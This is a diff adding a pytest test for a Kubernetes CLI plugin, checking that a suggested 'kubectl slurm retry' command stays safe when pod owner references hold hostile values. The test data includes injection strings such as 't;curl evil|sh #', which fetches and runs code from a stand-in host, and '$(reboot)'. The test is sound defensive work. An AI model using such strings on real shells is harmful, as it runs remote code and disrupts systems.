@@ -194,6 +194,24 @@ def test_words_of_users_do_not_reach_the_terminal_as_commands(kube: world.Pocket
         assert not any(line.startswith("root/b") for line in shown.splitlines())
 
 
+@pytest.mark.parametrize(
+    ("kind", "name", "named"),
+    [
+        ("Job", "train", "Job/train"),
+        ("Job", "t;curl evil|sh #", "Pod/a"),
+        ("$(reboot)", "train", "Pod/a"),
+        ("--all", "train", "Pod/a"),
+    ],
+)
+def test_the_next_step_is_a_command_that_runs_nothing_else(
+    kube: world.PocketKube, run: Run, kind: str, name: str, named: str
+) -> None:
+    """A user copies it into a shell; owner references may say anything."""
+    owner = {"apiVersion": "batch/v1", "kind": kind, "name": name, "uid": "u", "controller": True}
+    pod(kube, "a", "Parked", "its job was cancelled", metadata={"ownerReferences": [owner]})
+    assert run("why", "a")[1].endswith(f"run: kubectl slurm retry --namespace team {named}\n")
+
+
 def test_a_pod_is_explained_by_the_configuration_of_the_running_daemon(kube: world.PocketKube, run: Run) -> None:
     """Found by its label; the policy in it counts, and the user reads nothing but pods and that."""
     configure(kube)
